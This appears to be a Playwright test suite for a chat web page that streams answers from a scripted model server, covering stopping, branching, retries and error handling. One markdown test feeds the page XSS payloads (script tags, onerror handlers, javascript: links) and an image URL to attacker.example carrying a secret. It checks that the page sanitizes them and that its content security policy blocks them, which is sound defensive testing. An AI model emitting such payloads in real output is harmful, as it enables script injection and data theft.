"""The chat page in a real Chromium, against a server that answers from a script: answers, and what goes wrong."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from support.chat_page import ChatPage
from support.scripted_server import HOLD, ChatServer, Reply


class TestAnswers:
    def test_an_answer_is_shown_while_it_comes(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.replies.append(
            Reply(["# Ti", "tle\n\nSome **bo", HOLD, "ld** text."], prompt_tokens=100, delay=0.1)
        )
        chat.send("Tell me")
        expect(chat.answers.get_by_role("heading", name="Title")).to_be_visible()
        expect(chat.answers).to_contain_text("Some **bo")
        expect(chat.button("Stop")).to_be_visible()
        chat_server.go_on.set()
        chat.wait_for_answer()
        expect(chat.answers.locator("strong")).to_have_text("bold")
        expect(chat.answers).to_contain_text(re.compile(r"tokens/s · 4\stokens · first\safter\s[\d.]+\sm?s"))
        expect(chat.page.get_by_role("meter", name="Context used")).to_have_attribute(
            "aria-valuetext", "104 of 2,048 tokens of context used"
        )
        assert chat_server.requests == [
            {
                "model": "tiny",
                "messages": [{"role": "user", "content": "Tell me"}],
                "stream": True,
                "stream_options": {"include_usage": True},
            }
        ]

    @pytest.mark.parametrize("how", ["button", "key"])
    def test_stop_ends_the_request_and_keeps_the_text(self, chat_server: ChatServer, chat: ChatPage, how: str) -> None:
        chat_server.replies.append(Reply(["As far as ", HOLD, "here"]))
        chat.send("Go")
        expect(chat.answers).to_contain_text("As far as")
        if how == "button":
            chat.button("Stop").click()
        else:
            chat.page.keyboard.press("Escape")
        chat.wait_for_answer()
        assert chat_server.gone.wait(2)
        expect(chat.answers).to_contain_text("stopped")
        chat.ask("And then?")
        assert chat_server.requests[1]["messages"][1] == {"role": "assistant", "content": "As far as "}

    def test_regenerate_makes_another_version(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.replies.extend([Reply(["First"]), Reply(["Second"])])
        chat.ask("Say")
        chat.button("Regenerate").click()
        expect(chat.answers).to_contain_text("Second")
        expect(chat.page.get_by_role("group", name="Versions")).to_have_text("2/2")
        chat.button("Version before").click()
        expect(chat.answers).to_contain_text("First")
        assert chat_server.requests[0] == chat_server.requests[1]

    def test_an_edited_question_starts_a_branch(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.replies.extend([Reply(["A1"]), Reply(["A2"]), Reply(["B1"])])
        chat.ask("a one")
        chat.ask("a two")
        chat.questions.first.hover()
        chat.questions.first.get_by_role("button", name="Edit").click()
        chat.page.get_by_label("Edit message").fill("b one")
        chat.page.keyboard.press("Enter")
        expect(chat.answers).to_have_text([re.compile("^B1")])
        assert chat_server.requests[2]["messages"] == [{"role": "user", "content": "b one"}]
        chat.button("Version before").click()
        expect(chat.questions).to_have_text([re.compile("^a one"), re.compile("^a two")])
        chat.ask("a three")
        contents = [message["content"] for message in chat_server.requests[3]["messages"]]
        assert contents == ["a one", "A1", "a two", "A2", "a three"]

    def test_an_edited_answer_is_what_the_model_is_told_it_said(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat.ask("Hi")
        chat.button("Edit answer").click()
        chat.page.get_by_label("Edit message").fill("Ahoy.")
        chat.page.keyboard.press("Enter")
        expect(chat.answers).to_contain_text("Ahoy.")
        chat.ask("Again")
        assert chat_server.requests[1]["messages"][1]["content"] == "Ahoy."

    def test_a_cut_off_answer_says_so(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.replies.append(Reply(["Once upon"], finish="length"))
        chat.ask("Tell")
        expect(chat.answers).to_contain_text("cut off at the token limit")

    def test_the_end_is_followed_until_the_reader_scrolls_up(self, chat_server: ChatServer, chat: ChatPage) -> None:
        lines = [f"line {number}\n\n" for number in range(60)]
        chat_server.replies.append(Reply([*lines, HOLD, *lines, "end"]))
        chat.send("Count")
        thread = chat.page.get_by_role("region", name="Conversation")
        expect(chat.answers.get_by_text("line 59")).to_be_in_viewport()
        thread.hover()
        chat.page.mouse.wheel(0, -600)
        expect(chat.button("To the end")).to_be_visible()
        top = thread.evaluate("(element) => element.scrollTop")
        chat_server.go_on.set()
        chat.wait_for_answer()
        assert thread.evaluate("(element) => element.scrollTop") == top
        chat.button("To the end").click()
        expect(chat.answers.get_by_text("end", exact=True)).to_be_in_viewport()
        expect(chat.button("To the end")).to_be_hidden()

    def test_two_conversations_are_answered_at_once(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.replies.extend([Reply(["Slow ", HOLD, "one"]), Reply(["Quick"])])
        chat.send("First")
        expect(chat.answers).to_contain_text("Slow")
        chat.page.keyboard.press("Control+Shift+O")
        chat.ask("Second")
        expect(chat.answers).to_contain_text("Quick")
        chat_server.go_on.set()
        chat.page.get_by_role("link", name="First").click()
        expect(chat.answers).to_contain_text("Slow one")


class TestMarkdown:
    def test_code_can_be_copied(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        chat_server.replies.append(Reply(["```python\nprint('<b>')\n", "```\n\n| a | b |\n|---|--:|\n| 1 | 2 |"]))
        chat.ask("Code")
        expect(chat.answers.locator(".hljs-string")).to_have_text("'<b>'")
        expect(chat.answers.get_by_role("cell", name="2")).to_have_css("text-align", "right")
        code = chat.answers.locator(".code")
        code.get_by_role("button").click()
        expect(code.get_by_role("button")).to_have_text("Copied")
        assert chat.page.evaluate("navigator.clipboard.readText()") == "print('<b>')"

    def test_what_the_model_writes_does_nothing(self, chat_server: ChatServer, chat: ChatPage) -> None:
        attacks = [
            "<img src=x onerror='window.hit=1'> ",
            "<script>window.hit=1</script>\n\n",
            "[link](javascript:window.hit=1) ",
            "<svg/onload='window.hit=1'> ",
            "![picture](https://attacker.example/?secret) ",
            "```\"><img src=x onerror='window.hit=1'>\n<script>window.hit=1</script>\n```\n\n",
            "<a href='javascript:window.hit=1'>raw</a> done",
        ]
        chat_server.replies.append(Reply(attacks))
        chat.ask("<img src=x onerror='window.hit=1'>")
        expect(chat.answers).to_contain_text("done")
        expect(chat.answers).to_contain_text("<img src=x onerror='window.hit=1'>")
        assert chat.page.locator("article :is(img, script, svg:not(.icon), iframe)").count() == 0
        hrefs = chat.answers.locator("a").evaluate_all("(links) => links.map((link) => link.href)")
        assert hrefs == ["https://attacker.example/?secret"]
        assert chat.page.evaluate("window.hit") is None

    def test_the_policy_would_hold_even_if_the_cleaning_failed(self, chat: ChatPage) -> None:
        chat.page.evaluate("""() => {
            window.blocked = [];
            addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.effectiveDirective));
            const element = document.createElement("div");
            element.innerHTML = "<img src='https://attacker.example/x.png' onerror='window.hit=1'>";
            document.body.append(element);
        }""")
        chat.page.wait_for_function("window.blocked.includes('img-src') && window.blocked.includes('script-src-attr')")
        assert chat.page.evaluate("window.hit") is None
        chat.wrong.clear()


class TestFailures:
    def test_a_key_is_asked_for_and_used(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.key = "secret"
        chat.send("Hi")
        dialog = chat.page.get_by_role("dialog", name="API key")
        dialog.get_by_label("API key").fill("wrong")
        chat.page.keyboard.press("Enter")
        expect(dialog).to_contain_text("It does not take the one it was given.")
        dialog.get_by_label("API key").fill("secret")
        chat.page.keyboard.press("Enter")
        expect(chat.answers).to_contain_text("Hello.")
        expect(dialog).to_be_hidden()
        chat.page.reload()
        chat.ask("Again")

    def test_a_busy_server_is_asked_again(self, chat_server: ChatServer, chat: ChatPage) -> None:
        busy: dict[str, Any] = {"status": 429, "error": "The queue is full."}
        chat_server.replies.extend(Reply(**busy, headers={"Retry-After": seconds}) for seconds in ("0", "60"))
        chat.send("Hi")
        alert = chat.page.get_by_role("alert")
        expect(alert).to_contain_text(re.compile(r"The queue is full\.Trying again in (60|59) s\."))
        chat.button("Try now").click()
        expect(chat.answers).to_contain_text("Hello.")
        expect(alert).to_be_hidden()
        assert len(chat_server.requests) == 3

    def test_a_server_that_is_gone_is_found_again(self, chat: ChatPage) -> None:
        chat.page.context.set_offline(True)
        chat.send("Hi")
        expect(chat.answers).to_contain_text("The server does not answer.")
        expect(chat.page.get_by_text("Server not found")).to_be_visible()
        chat.page.context.set_offline(False)
        chat.button("Try again").click()
        expect(chat.answers).to_contain_text("Hello.")
        expect(chat.page.get_by_text("Server not found")).to_be_hidden()

    @pytest.mark.parametrize(
        ("reply", "message"),
        [
            (Reply(["Half"], cut=True), "The connection was lost before the answer was complete."),
            (Reply(["Half"], error="The worker died."), "The worker died."),
        ],
    )
    def test_an_answer_that_breaks_off_keeps_its_text(
        self, chat_server: ChatServer, chat: ChatPage, reply: Reply, message: str
    ) -> None:
        chat_server.replies.append(reply)
        chat.send("Hi")
        expect(chat.page.get_by_role("alert")).to_contain_text(message)
        expect(chat.answers).to_contain_text("Half")
        chat.button("Try again").click()
        expect(chat.answers).to_contain_text("Hello.")

    def test_another_try_asks_the_model_of_now(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat.page.context.set_offline(True)
        chat.send("Hi")
        expect(chat.page.get_by_text("Server not found")).to_be_visible()
        chat_server.models = ("other",)
        chat.page.context.set_offline(False)
        chat.page.reload()
        expect(chat.page.get_by_text("other", exact=True)).to_be_visible()
        chat.button("Try again").click()
        expect(chat.answers).to_contain_text("Hello.")
        assert [request["model"] for request in chat_server.requests] == ["other"]

    def test_a_failing_server_is_quoted(self, chat_server: ChatServer, chat: ChatPage) -> None:
        chat_server.replies.append(Reply(status=500, error="Its log says why."))
        chat.send("Hi")
        expect(chat.page.get_by_role("alert")).to_contain_text("Its log says why.")
